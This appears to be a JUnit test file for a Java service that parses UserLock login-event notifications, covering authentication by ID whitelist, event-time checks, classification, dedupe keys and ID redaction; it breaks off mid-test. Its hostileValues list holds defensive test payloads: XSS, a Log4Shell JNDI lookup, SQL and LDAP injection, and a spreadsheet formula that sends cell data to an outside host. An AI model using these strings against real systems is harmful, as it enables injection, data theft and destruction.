package io.afterhours.intake.control;

import static io.afterhours.intake.control.UserLockIdWhitelistTest.BACKUP;
import static io.afterhours.intake.control.UserLockIdWhitelistTest.PREVIOUS;
import static io.afterhours.intake.control.UserLockIdWhitelistTest.PRIMARY;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.afterhours.hours.boundary.WorkingTime;
import io.afterhours.intake.entity.Classification;
import io.afterhours.intake.entity.EventCategory;
import io.afterhours.intake.entity.TimeQuality;
import jakarta.json.Json;
import jakarta.json.JsonObjectBuilder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * From raw body to {@link IncomingNotification}, with the real collaborators: reliability.md B2, B5, B8, B9, B12–B16.
 * 2024-03-05 is a Tuesday; 20:47 UTC is 21:47 in Paris (outside the 08:00–19:00 policy).
 */
class NotificationInterpreterTest {

    private static final Instant RECEIVED = Instant.parse("2024-03-05T20:47:30Z");

    /** A complete, valid notification; {@code $ID} is replaced by the Primary's ID. */
    private static final String VALID = """
            {"Userlock":{"Id":"$ID","FQDN":"ul1.corp.example","DisplayName":"UL1"},
             "EventType":4,"EventTime":"2024-03-05T21:47:00+01:00",
             "UserAccount":"jdoe","UserDomain":"CORP","ComputerName":"PC-42","SessionId":"7",
             "Extra":{"a":[1,2]}}""";

    private final NotificationInterpreter interpreter = interpreter();

    static NotificationInterpreter interpreter() {
        NotificationInterpreter interpreter = new NotificationInterpreter();
        interpreter.whitelist = UserLockIdWhitelistTest.whitelist(PRIMARY, BACKUP, PREVIOUS);
        interpreter.mapping = FieldMapping.of(Map.of());
        interpreter.eventTypes = EventTypeTable.of(EventTypeTableTest.defaultTable());
        interpreter.workingHours = WorkingTime.of("MON,TUE,WED,THU,FRI", "08:00-19:00", "Europe/Paris");
        interpreter.maxDepth = 32;
        interpreter.userLockZone = "UTC";
        interpreter.futureTolerance = Duration.ofMinutes(5);
        interpreter.pastTolerance = Duration.ofHours(24);
        return interpreter;
    }

    // ---------------------------------------------------------------- the happy path

    @Test
    void validNotificationIsFullyInterpreted() {
        IncomingNotification n = interpreter.interpret(body(VALID), RECEIVED);

        assertTrue(n.dedupeKey().matches("[0-9a-f]{64}"), n.dedupeKey());
        assertEquals(RECEIVED, n.receivedAt());
        assertEquals(Instant.parse("2024-03-05T20:47:00Z"), n.eventTime());
        assertEquals("2024-03-05T21:47:00+01:00", n.eventTimeText());
        assertEquals(TimeQuality.OK, n.timeQuality());
        assertEquals(4, n.eventType());
        assertEquals(EventCategory.DENIED_BY_USERLOCK, n.category());
        assertEquals(Classification.OUT_OF_HOURS_DENIAL, n.classification());
        assertTrue(n.mapped());
        assertEquals(ServerSlot.PRIMARY, n.serverSlot());
        assertEquals("ul1.corp.example", n.serverFqdn());
        assertEquals("UL1", n.serverName());
        assertEquals("jdoe", n.userName());
        assertEquals("CORP", n.userDomain());
        assertEquals("PC-42", n.computer());
        assertNull(n.clientAddress());
        assertNull(n.sessionType());
        assertEquals("7", n.sessionId());
        assertNull(n.details());
        assertEquals("Extra", n.unmappedMembers());
        assertEquals(n.eventTime(), n.effectiveTime());
    }

    @Test
    void backupAndPreviousIdsAreAcceptedAndNamed() {
        IncomingNotification backup = interpreter.interpret(body(VALID.replace("$ID", BACKUP)), RECEIVED);
        IncomingNotification previous =
                interpreter.interpret(body(VALID.replace("$ID", "{" + PREVIOUS + "}")), RECEIVED);

        assertEquals(ServerSlot.BACKUP, backup.serverSlot());
        assertEquals(ServerSlot.PREVIOUS, previous.serverSlot());
    }

    @Test
    void userLockIdInBracesAndUpperCaseIsAccepted() {
        IncomingNotification n = interpreter.interpret(
                body(VALID.replace("$ID", "{" + PRIMARY.toUpperCase(Locale.ROOT) + "}")), RECEIVED);

        assertEquals(ServerSlot.PRIMARY, n.serverSlot());
    }

    @Test
    void memberNamesAreMatchedCaseInsensitively() {
        String json = VALID.replace("\"Userlock\"", "\"USERLOCK\"")
                .replace("\"Id\"", "\"id\"")
                .replace("\"EventType\"", "\"eventtype\"")
                .replace("\"FQDN\"", "\"fqdn\"");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertEquals(ServerSlot.PRIMARY, n.serverSlot());
        assertEquals(4, n.eventType());
        assertEquals("ul1.corp.example", n.serverFqdn());
    }

    @Test
    void serverFqdnAndDisplayNameAreOptional() {
        String json = VALID.replace(",\"FQDN\":\"ul1.corp.example\",\"DisplayName\":\"UL1\"", "");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertNull(n.serverFqdn());
        assertNull(n.serverName());
    }

    // ---------------------------------------------------------------- authentication (B8, B9)

    static Stream<String> unauthenticatedBodies() {
        return Stream.of(
                "{\"EventType\":4}",
                "{\"Userlock\":\"$ID\"}",
                "{\"Userlock\":null}",
                "{\"Userlock\":[\"$ID\"]}",
                "{\"Userlock\":[{\"Id\":\"$ID\"}]}",
                "{\"Userlock\":{}}",
                "{\"Userlock\":{\"FQDN\":\"ul1\"}}",
                "{\"Userlock\":{\"Id\":\"\"}}",
                "{\"Userlock\":{\"Id\":null}}",
                "{\"Userlock\":{\"Id\":1}}",
                "{\"Userlock\":{\"Id\":3.5}}",
                "{\"Userlock\":{\"Id\":true}}",
                "{\"Userlock\":{\"Id\":[\"$ID\"]}}",
                "{\"Userlock\":{\"Id\":{\"Id\":\"$ID\"}}}",
                "{\"Userlock\":{\"Id\":\"00000000-0000-0000-0000-000000000000\"}}",
                "{\"Userlock\":{\"Id\":\"$ID \"}}",
                "{\"Userlock\":{\"Id\":\" $ID\"}}",
                "{\"Userlock\":{\"Id\":\"3f2504e0-4f89-11d3-9\u04300c-0305e82c3301\"}}",
                "{\"Userlock\":{\"ServerGuid\":\"$ID\"}}",
                "{\"Userlock\":{},\"Id\":\"$ID\"}",
                "{\"Userlock\":{\"Inner\":{\"Id\":\"$ID\"}}}");
    }

    @ParameterizedTest
    @MethodSource("unauthenticatedBodies")
    void missingOrWrongUserLockIdIsUnauthenticatedWithNoDetail(String json) {
        IntakeRejection rejection =
                assertThrows(IntakeRejection.class, () -> interpreter.interpret(body(json), RECEIVED));

        assertEquals(RejectionReason.UNAUTHENTICATED, rejection.reason());
        assertEquals("", rejection.getMessage());
    }

    @Test
    void nothingIsAcceptedWhenNoIdIsConfigured() {
        NotificationInterpreter unconfigured = interpreter();
        unconfigured.whitelist = UserLockIdWhitelistTest.whitelist(null, null, null);

        IntakeRejection rejection =
                assertThrows(IntakeRejection.class, () -> unconfigured.interpret(body(VALID), RECEIVED));

        assertEquals(RejectionReason.UNAUTHENTICATED, rejection.reason());
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"EventType\":\"x\"", "\"EventType\":4.5", "\"EventTime\":12345", "\"FQDN\":7"})
    void badTypesAreNotRevealedBeforeAuthentication(String badMember) {
        String json = "{\"Userlock\":{\"Id\":\"00000000-0000-0000-0000-000000000000\"}," + badMember + "}";
        String wrongUserlock =
                badMember.startsWith("\"FQDN\"") ? "{\"Userlock\":{\"Id\":\"wrong\"," + badMember + "}}" : json;

        IntakeRejection rejection =
                assertThrows(IntakeRejection.class, () -> interpreter.interpret(body(wrongUserlock), RECEIVED));

        assertEquals(RejectionReason.UNAUTHENTICATED, rejection.reason());
    }

    @Test
    void syntaxErrorsAreMalformedEvenWithoutAuthentication() {
        // The body has to be parsed to find the ID at all, so B1–B4 are answered 400 before any ID check.
        IntakeRejection rejection = assertThrows(
                IntakeRejection.class, () -> interpreter.interpret(body("{\"Userlock\":{\"Id\":\"$ID\"}"), RECEIVED));

        assertEquals(RejectionReason.MALFORMED, rejection.reason());
    }

    @Test
    void twoUserLockIdsAreMalformed() {
        String json = "{\"Userlock\":{\"Id\":\"$ID\",\"ID\":\"00000000-0000-0000-0000-000000000000\"}}";

        IntakeRejection rejection =
                assertThrows(IntakeRejection.class, () -> interpreter.interpret(body(json), RECEIVED));

        assertEquals(RejectionReason.MALFORMED, rejection.reason());
    }

    @Test
    void nestingBeyondTheConfiguredDepthIsMalformed() {
        String json = VALID.replace("\"Extra\":{\"a\":[1,2]}", "\"Extra\":" + "[".repeat(40) + "]".repeat(40));

        IntakeRejection rejection =
                assertThrows(IntakeRejection.class, () -> interpreter.interpret(body(json), RECEIVED));

        assertEquals(RejectionReason.MALFORMED, rejection.reason());
    }

    // ---------------------------------------------------------------- member types after authentication

    @ParameterizedTest
    @ValueSource(strings = {"\"4\"", "true", "4.5", "10000000000", "[4]", "{\"code\":4}", "-0.1"})
    void eventTypeThatIsNoIntegerIsMalformed(String eventType) {
        String json = VALID.replace("\"EventType\":4", "\"EventType\":" + eventType);

        IntakeRejection rejection =
                assertThrows(IntakeRejection.class, () -> interpreter.interpret(body(json), RECEIVED));

        assertEquals(RejectionReason.MALFORMED, rejection.reason());
    }

    @ParameterizedTest
    @ValueSource(strings = {"4.0", "4.000", "4E0", "40E-1", "0.4E1"})
    void integralEventTypeWrittenAsDecimalIsAccepted(String eventType) {
        String json = VALID.replace("\"EventType\":4", "\"EventType\":" + eventType);

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertEquals(4, n.eventType());
        assertEquals(EventCategory.DENIED_BY_USERLOCK, n.category());
    }

    @ParameterizedTest
    @ValueSource(strings = {"12345", "true", "{}", "[\"2024-03-05T21:47:00Z\"]"})
    void eventTimeThatIsNoStringIsMalformed(String eventTime) {
        String json = VALID.replace("\"2024-03-05T21:47:00+01:00\"", eventTime);

        IntakeRejection rejection =
                assertThrows(IntakeRejection.class, () -> interpreter.interpret(body(json), RECEIVED));

        assertEquals(RejectionReason.MALFORMED, rejection.reason());
    }

    @Test
    void serverNameThatIsNoStringIsMalformed() {
        String json = VALID.replace("\"DisplayName\":\"UL1\"", "\"DisplayName\":[\"UL1\"]");

        IntakeRejection rejection =
                assertThrows(IntakeRejection.class, () -> interpreter.interpret(body(json), RECEIVED));

        assertEquals(RejectionReason.MALFORMED, rejection.reason());
    }

    // ---------------------------------------------------------------- event time (B13)

    @Test
    void unparsableEventTimeIsStoredAndFlagged() {
        String json = VALID.replace("2024-03-05T21:47:00+01:00", "last Tuesday");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertEquals(TimeQuality.UNPARSABLE, n.timeQuality());
        assertNull(n.eventTime());
        assertEquals("last Tuesday", n.eventTimeText());
        assertEquals(RECEIVED, n.effectiveTime());
    }

    @Test
    void missingEventTimeIsFlagged() {
        String json = VALID.replace("\"EventTime\":\"2024-03-05T21:47:00+01:00\",", "");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertEquals(TimeQuality.MISSING, n.timeQuality());
        assertNull(n.eventTime());
        assertNull(n.eventTimeText());
    }

    @Test
    void nullEventTimeCountsAsMissing() {
        String json = VALID.replace("\"2024-03-05T21:47:00+01:00\"", "null");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertEquals(TimeQuality.MISSING, n.timeQuality());
    }

    @Test
    void eventTimeTenMinutesAheadIsFlaggedFuture() {
        IncomingNotification n = interpreter.interpret(bodyAt("2024-03-05T20:57:30Z"), RECEIVED);

        assertEquals(TimeQuality.FUTURE, n.timeQuality());
        assertEquals(Instant.parse("2024-03-05T20:57:30Z"), n.eventTime());
    }

    @Test
    void eventTimeJustWithinTheFutureToleranceIsOk() {
        assertEquals(
                TimeQuality.OK,
                interpreter.interpret(bodyAt("2024-03-05T20:52:30Z"), RECEIVED).timeQuality());
        assertEquals(
                TimeQuality.FUTURE,
                interpreter
                        .interpret(bodyAt("2024-03-05T20:52:30.000001Z"), RECEIVED)
                        .timeQuality());
    }

    @Test
    void eventTimeTwoDaysOldIsFlaggedPast() {
        IncomingNotification n = interpreter.interpret(bodyAt("2024-03-03T20:47:30Z"), RECEIVED);

        assertEquals(TimeQuality.PAST, n.timeQuality());
    }

    @Test
    void eventTimeWithinThePastToleranceIsOk() {
        assertEquals(
                TimeQuality.OK,
                interpreter.interpret(bodyAt("2024-03-04T20:47:30Z"), RECEIVED).timeQuality());
        assertEquals(
                TimeQuality.PAST,
                interpreter
                        .interpret(bodyAt("2024-03-04T20:47:29.999999Z"), RECEIVED)
                        .timeQuality());
    }

    @Test
    void eventTimeWithoutOffsetUsesTheUserLockZone() {
        NotificationInterpreter paris = interpreter();
        paris.userLockZone = "Europe/Paris";

        IncomingNotification inUtc = interpreter.interpret(bodyAt("2024-03-05T21:47:00"), RECEIVED);
        IncomingNotification inParis = paris.interpret(bodyAt("2024-03-05T21:47:00"), RECEIVED);

        assertEquals(Instant.parse("2024-03-05T21:47:00Z"), inUtc.eventTime());
        assertEquals(Instant.parse("2024-03-05T20:47:00Z"), inParis.eventTime());
    }

    // ---------------------------------------------------------------- classification

    @Test
    void userLockDenialAfterHoursIsOutOfHours() {
        IncomingNotification n = interpreter.interpret(bodyAt("2024-03-05T21:47:00+01:00"), RECEIVED);

        assertEquals(Classification.OUT_OF_HOURS_DENIAL, n.classification());
    }

    @Test
    void userLockDenialDuringHoursIsInHours() {
        Instant received = Instant.parse("2024-03-05T09:00:10Z");

        IncomingNotification n = interpreter.interpret(bodyAt("2024-03-05T10:00:00+01:00"), received);

        assertEquals(Classification.IN_HOURS_DENIAL, n.classification());
    }

    @Test
    void userLockDenialOnSaturdayIsOutOfHours() {
        Instant received = Instant.parse("2024-03-09T09:00:10Z");

        IncomingNotification n = interpreter.interpret(bodyAt("2024-03-09T10:00:00+01:00"), received);

        assertEquals(Classification.OUT_OF_HOURS_DENIAL, n.classification());
    }

    @Test
    void classificationUsesTheEventTimeNotTheReceiptTime() {
        // Delivered late by the Backup: the event happened at 10:00, it arrives at 21:47.
        IncomingNotification n = interpreter.interpret(bodyAt("2024-03-05T10:00:00+01:00"), RECEIVED);

        assertEquals(Classification.IN_HOURS_DENIAL, n.classification());
    }

    @Test
    void withoutAUsableEventTimeTheReceiptTimeClassifies() {
        String json = VALID.replace("2024-03-05T21:47:00+01:00", "garbage");

        IncomingNotification late = interpreter.interpret(body(json), RECEIVED);
        IncomingNotification daytime = interpreter.interpret(body(json), Instant.parse("2024-03-05T09:00:00Z"));

        assertEquals(Classification.OUT_OF_HOURS_DENIAL, late.classification());
        assertEquals(Classification.IN_HOURS_DENIAL, daytime.classification());
    }

    @ParameterizedTest
    @ValueSource(ints = {104, 204, 504})
    void otherUserLockDenialCodesAreDenialsToo(int code) {
        IncomingNotification n = interpreter.interpret(bodyWithEventType(code), RECEIVED);

        assertEquals(Classification.OUT_OF_HOURS_DENIAL, n.classification());
    }

    @ParameterizedTest
    @ValueSource(ints = {20, 420})
    void activeDirectoryDenialIsAdDenial(int code) {
        IncomingNotification n = interpreter.interpret(bodyWithEventType(code), RECEIVED);

        assertEquals(EventCategory.DENIED_BY_AD, n.category());
        assertEquals(Classification.AD_DENIAL, n.classification());
    }

    @Test
    void logonIsASessionEvent() {
        IncomingNotification n = interpreter.interpret(bodyWithEventType(1), RECEIVED);

        assertEquals(EventCategory.LOGON, n.category());
        assertEquals(Classification.SESSION_EVENT, n.classification());
    }

    @Test
    void unknownEventTypeIsStoredAsUnknown() {
        IncomingNotification n = interpreter.interpret(bodyWithEventType(999), RECEIVED);

        assertEquals(999, n.eventType());
        assertEquals(EventCategory.UNKNOWN, n.category());
        assertEquals(Classification.UNKNOWN_EVENT, n.classification());
    }

    @Test
    void missingEventTypeIsUnknown() {
        String json = VALID.replace("\"EventType\":4,", "");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertNull(n.eventType());
        assertEquals(Classification.UNKNOWN_EVENT, n.classification());
    }

    @Test
    void nullEventTypeIsUnknown() {
        String json = VALID.replace("\"EventType\":4", "\"EventType\":null");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertNull(n.eventType());
        assertEquals(Classification.UNKNOWN_EVENT, n.classification());
    }

    // ---------------------------------------------------------------- mapping (B15)

    @Test
    void domainInsideTheAccountNameIsSplitWhenNoDomainMember() {
        String json =
                VALID.replace("\"UserAccount\":\"jdoe\",\"UserDomain\":\"CORP\"", "\"UserAccount\":\"CORP\\\\jdoe\"");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertEquals("jdoe", n.userName());
        assertEquals("CORP", n.userDomain());
        assertTrue(n.mapped());
    }

    @Test
    void accountNameIsKeptWholeWhenADomainMemberExists() {
        String json = VALID.replace("\"UserAccount\":\"jdoe\"", "\"UserAccount\":\"CORP\\\\jdoe\"")
                .replace("\"UserDomain\":\"CORP\"", "\"UserDomain\":\"OTHER\"");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertEquals("CORP\\jdoe", n.userName());
        assertEquals("OTHER", n.userDomain());
    }

    @Test
    void leadingBackslashIsNoDomain() {
        String json = VALID.replace("\"UserAccount\":\"jdoe\",\"UserDomain\":\"CORP\"", "\"UserAccount\":\"\\\\jdoe\"");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertEquals("\\jdoe", n.userName());
        assertNull(n.userDomain());
    }

    @Test
    void domainWithNothingAfterTheBackslashIsUnmapped() {
        String json = VALID.replace("\"UserAccount\":\"jdoe\",\"UserDomain\":\"CORP\"", "\"UserAccount\":\"CORP\\\\\"");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertEquals("CORP", n.userDomain());
        assertNull(n.userName(), "unmapped means no stored user: the portal's filter relies on it");
        assertFalse(n.mapped());
    }

    @Test
    void missingUserIsStoredButUnmapped() {
        String json = VALID.replace("\"UserAccount\":\"jdoe\",", "\"Subject\":{\"Name\":\"jdoe\"},");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertFalse(n.mapped());
        assertNull(n.userName());
        assertEquals(Classification.OUT_OF_HOURS_DENIAL, n.classification());
        assertEquals("PC-42", n.computer());
        assertEquals("Subject,Extra", n.unmappedMembers());
    }

    @Test
    void unmappableUserIsStoredButUnmapped() {
        String json = VALID.replace("\"UserAccount\":\"jdoe\"", "\"UserAccount\":{\"Sam\":\"jdoe\"}");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertFalse(n.mapped());
        assertNull(n.userName());
    }

    @Test
    void unknownMembersAreKeptAndListed() {
        String json = VALID.replace("\"Extra\":{\"a\":[1,2]}", "\"Extra\":{\"a\":[1,2]},\"NewField\":\"v\"");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertEquals("Extra,NewField", n.unmappedMembers());
        assertTrue(n.rawJson().contains("\"NewField\":\"v\""), n.rawJson());
        assertTrue(n.rawJson().contains("\"Extra\":{\"a\":[1,2]}"), n.rawJson());
    }

    // ---------------------------------------------------------------- dedupe key (B11, B12)

    @Test
    void sameBodyGivesTheSameKey() {
        assertEquals(key(VALID), key(VALID));
    }

    @Test
    void primaryAndBackupCopiesShareTheKey() {
        String backup = VALID.replace(
                "{\"Id\":\"$ID\",\"FQDN\":\"ul1.corp.example\",\"DisplayName\":\"UL1\"}",
                "{\"DisplayName\":\"UL2\",\"Id\":\"" + BACKUP
                        + "\",\"FQDN\":\"ul2.corp.example\",\"Role\":\"Backup\"}");

        IncomingNotification primaryCopy = interpreter.interpret(body(VALID), RECEIVED);
        IncomingNotification backupCopy = interpreter.interpret(body(backup), RECEIVED.plusSeconds(40));

        assertEquals(ServerSlot.BACKUP, backupCopy.serverSlot());
        assertEquals(primaryCopy.dedupeKey(), backupCopy.dedupeKey());
    }

    @Test
    void userlockMemberNameCaseDoesNotChangeTheKey() {
        String backup = VALID.replace("\"Userlock\":{\"Id\":\"$ID\"", "\"USERLOCK\":{\"ID\":\"" + BACKUP + "\"");

        assertEquals(key(VALID), key(backup));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "2024-03-05T20:47:00Z",
                "2024-03-05T15:47:00-05:00",
                "2024-03-05T20:47:00.0000000Z",
                "2024-03-05 20:47:00Z",
                "2024-03-05T20:47:00"
            })
    void sameEventTimeWithAnotherOffsetGivesTheSameKey(String sameMoment) {
        String other = VALID.replace("2024-03-05T21:47:00+01:00", sameMoment);

        assertEquals(key(VALID), key(other));
    }

    @Test
    void eventsOneHundredNanosecondsApartAreTwoEvents() {
        String first = VALID.replace("2024-03-05T21:47:00+01:00", "2024-03-05T21:47:00.1234567+01:00");
        String second = VALID.replace("2024-03-05T21:47:00+01:00", "2024-03-05T21:47:00.1234568+01:00");

        assertNotEquals(key(first), key(second));
        assertEquals(
                interpreter.interpret(body(first), RECEIVED).eventTime(),
                interpreter.interpret(body(second), RECEIVED).eventTime(),
                "both stored at the same microsecond");
    }

    @Test
    void memberOrderDoesNotChangeTheKey() {
        String reordered = """
                {"Extra":{"a":[1,2]},"SessionId":"7","ComputerName":"PC-42","UserDomain":"CORP","UserAccount":"jdoe",
                 "EventTime":"2024-03-05T21:47:00+01:00","EventType":4,
                 "Userlock":{"Id":"$ID","FQDN":"ul1.corp.example","DisplayName":"UL1"}}""";

        assertEquals(key(VALID), key(reordered));
    }

    static Stream<Arguments> otherEvents() {
        return Stream.of(
                Arguments.of("event type", "\"EventType\":4", "\"EventType\":5"),
                Arguments.of("event time", "21:47:00+01:00", "21:47:01+01:00"),
                Arguments.of("event time by a microsecond", "21:47:00+01:00", "21:47:00.000001+01:00"),
                Arguments.of("user", "\"jdoe\"", "\"jdoe2\""),
                Arguments.of("user case", "\"jdoe\"", "\"JDOE\""),
                Arguments.of("domain", "\"CORP\"", "\"CORP2\""),
                Arguments.of("computer", "\"PC-42\"", "\"PC-43\""),
                Arguments.of("session id", "\"SessionId\":\"7\"", "\"SessionId\":\"8\""),
                Arguments.of("session id type", "\"SessionId\":\"7\"", "\"SessionId\":7"),
                Arguments.of("unknown nested member", "[1,2]", "[2,1]"),
                Arguments.of("extra member", "\"Extra\":", "\"New\":null,\"Extra\":"),
                Arguments.of("missing member", "\"ComputerName\":\"PC-42\",", ""),
                Arguments.of("missing event time", "\"EventTime\":\"2024-03-05T21:47:00+01:00\",", ""),
                Arguments.of("missing event type", "\"EventType\":4,", ""));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("otherEvents")
    void anyOtherDifferenceGivesAnotherKey(String what, String from, String to) {
        String other = VALID.replace(from, to);
        assertNotEquals(VALID, other, "the replacement must change the body");

        assertNotEquals(key(VALID), key(other));
    }

    @Test
    void differentUnparsableEventTimesGiveDifferentKeys() {
        assertNotEquals(
                key(VALID.replace("2024-03-05T21:47:00+01:00", "garbage 1")),
                key(VALID.replace("2024-03-05T21:47:00+01:00", "garbage 2")));
    }

    // ---------------------------------------------------------------- redaction of the ID in rawJson

    @Test
    void rawJsonHasTheIdRedacted() {
        IncomingNotification n = interpreter.interpret(body(VALID), RECEIVED);

        assertFalse(containsId(n.rawJson(), PRIMARY), n.rawJson());
        Map<String, Object> raw = parse(n.rawJson());
        Map<?, ?> userlock = (Map<?, ?>) raw.get("Userlock");
        assertEquals("[redacted]", userlock.get("Id"));
        assertEquals("ul1.corp.example", userlock.get("FQDN"));
    }

    @Test
    void rawJsonKeepsEverythingElseInOrder() {
        IncomingNotification n = interpreter.interpret(body(VALID), RECEIVED);

        assertEquals(
                "{\"Userlock\":{\"Id\":\"[redacted]\",\"FQDN\":\"ul1.corp.example\",\"DisplayName\":\"UL1\"},"
                        + "\"EventType\":4,\"EventTime\":\"2024-03-05T21:47:00+01:00\",\"UserAccount\":\"jdoe\","
                        + "\"UserDomain\":\"CORP\",\"ComputerName\":\"PC-42\",\"SessionId\":\"7\",\"Extra\":{\"a\":[1,2]}}",
                n.rawJson());
    }

    @Test
    void idRepeatedInOtherMembersInAnyFormIsRedactedToo() {
        String json = """
                {"USERLOCK":{"ID":"{$UPPER}","Copy":"$ID"},"EventType":4,
                 "Note":"{$UPPER}","List":["x",["$ID"],{"Deep":"{$ID}"}],"Mixed":"$MIXED"}""".replace("$UPPER", PRIMARY.toUpperCase(Locale.ROOT))
                .replace("$MIXED", "3F2504e0-4f89-11D3-9a0c-0305E82C3301");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertFalse(containsId(n.rawJson(), PRIMARY), n.rawJson());
        assertEquals(6, count(n.rawJson(), "\"[redacted]\""), n.rawJson());
        assertTrue(n.rawJson().contains("[\"x\",[\"[redacted]\"],{\"Deep\":\"[redacted]\"}]"), n.rawJson());
    }

    @Test
    void idEmbeddedInLongerTextIsRedacted() {
        String json = VALID.replace(
                "\"Extra\":{\"a\":[1,2]}",
                "\"Message\":\"server {" + PRIMARY.toUpperCase(Locale.ROOT) + "} refused; id=" + PRIMARY + ".\"");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertFalse(containsId(n.rawJson(), PRIMARY), n.rawJson());
        assertFalse(containsId(n.details(), PRIMARY), n.details());
    }

    @Test
    void idInAMappedFieldNeverReachesAColumn() {
        String json = VALID.replace(
                        "\"Extra\":{\"a\":[1,2]}",
                        "\"Details\":\"{" + PRIMARY.toUpperCase(Locale.ROOT) + "}\",\"Workstation\":\"x\"")
                .replace("\"ComputerName\":\"PC-42\"", "\"ComputerName\":\"pc-$ID\"");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertEquals("[redacted]", n.details());
        assertEquals("pc-[redacted]", n.computer());
    }

    @Test
    void otherServersIdIsNotTheSecretPresentedAndStaysAsSent() {
        // Only the presented ID is known to be in this body; a different GUID in the text is ordinary data.
        String json = VALID.replace("\"Extra\":{\"a\":[1,2]}", "\"Other\":\"" + BACKUP + "\"");

        IncomingNotification n = interpreter.interpret(body(json), RECEIVED);

        assertTrue(n.rawJson().contains(BACKUP), n.rawJson());
    }

    // ---------------------------------------------------------------- hostile content is data (B16)

    static Stream<String> hostileValues() {
        return Stream.of(
                "Zo\u00eb",
                "\u5c71\u7530",
                "e\u0301\u0302\u0303\u0304",
                "\ud83d\ude00\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
                "\u202Eexe.txt",
                "x".repeat(10_000),
                "a\u0000b",
                "line1\r\nline2\rline3\n",
                "<script>alert(document.cookie)</script>",
                "#{facesContext.externalContext.sessionMap}",
                "${7*7}",
                "${jndi:ldap://x/a}",
                "*)(uid=*))(|(uid=*\\00",
                "' OR 1=1--",
                "\"; DROP TABLE notification; --",
                "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
                "\ufffe\uffff");
    }

    @ParameterizedTest
    @MethodSource("hostileValues")
    void hostileTextIsAcceptedAsData(String value) {
        JsonObjectBuilder json = validBuilder()
                .add("UserAccount", value)
                .add("ComputerName", value)
                .add("Details", value);

        IncomingNotification n = interpreter.interpret(bytes(json), RECEIVED);

        String expectedUser = StoredTextExpectations.column(value, 512);
        assertEquals(expectedUser, n.userName());
        assertTrue(n.mapped());
        Map<String, Object> raw = parse(n.rawJson());
        assertEquals(value, raw.get("UserAccount"), "the raw JSON keeps the exact value");
        assertEquals(value, raw.get("Details"));
        assertFalse(n.rawJson().contains("\u0000"), "NUL is escaped in the raw JSON");
    }

    @Test
    void longValuesAreCutToTheirColumnsButKeptWholeInTheRawJson() {
        String user = "u".repeat(10_000);
        String details = "d".repeat(5_000);
        JsonObjectBuilder json = validBuilder()
                .add("UserAccount", user)
                .add("Details", details)
                .add("SessionId", "s".repeat(500))
                .add("EventTime", "t".repeat(100));

        IncomingNotification n = interpreter.interpret(bytes(json), RECEIVED);

        assertEquals(512, n.userName().length());
        assertTrue(n.userName().endsWith("\u2026"));
        assertEquals(2000, n.details().length());
        assertEquals(128, n.sessionId().length());
        assertEquals(64, n.eventTimeText().length());
        assertEquals(TimeQuality.UNPARSABLE, n.timeQuality());
        Map<String, Object> raw = parse(n.rawJson());
        assertEquals(user, raw.get("UserAccount"));
        assertEquals(details, raw.get("Details"));
    }

    @Test
    void nulIsReplacedInColumnsButEscapedInTheRawJson() {
        JsonObjectBuilder json = validBuilder().add("UserAccount", "jd\u0000oe").add("ComputerName", "\u0000");

        IncomingNotification n = interpreter.interpret(bytes(json), RECEIVED);

        assertEquals("jd\uFFFDoe", n.userName());
        assertEquals("\uFFFD", n.computer());
        assertTrue(n.rawJson().contains("jd\\u0000oe"), n.rawJson());
        assertFalse(n.rawJson().contains("\u0000"));
    }

    @Test
    void manyUnknownMembersAreCutInTheListButKeptInTheRawJson() {
        JsonObjectBuilder json = validBuilder();
        for (int i = 0; i < 200; i++) {
            json.add("Unknown" + i, i);
        }

        IncomingNotification n = interpreter.interpret(bytes(json), RECEIVED);

        assertEquals(1000, n.unmappedMembers().length());
        assertTrue(n.unmappedMembers().startsWith("Extra,Unknown0,Unknown1,"));
        assertTrue(n.rawJson().contains("\"Unknown199\":199"));
    }

    // ---------------------------------------------------------------- reinterpreting a stored notification

    @Test
    void aStoredNotificationReadAgainUnderANewMappingGainsItsUserAndKeepsItsIdentity() {
        IncomingNotification stored =
                interpreter.interpret(body(VALID.replace("\"UserAccount\"", "\"Login\"")), RECEIVED);
        assertEquals(null, stored.userName());
        assertFalse(stored.mapped());
        assertTrue(stored.unmappedMembers().contains("Login"), stored.unmappedMembers());
        assertFalse(stored.rawJson().contains(PRIMARY), "the stored copy is redacted");

        NotificationInterpreter remapped = interpreter();
        remapped.mapping = FieldMapping.of(Map.of(LogicalField.USER, "Login,UserAccount"));
        IncomingNotification again = remapped.reinterpret(stored.rawJson(), RECEIVED, stored.serverSlot());

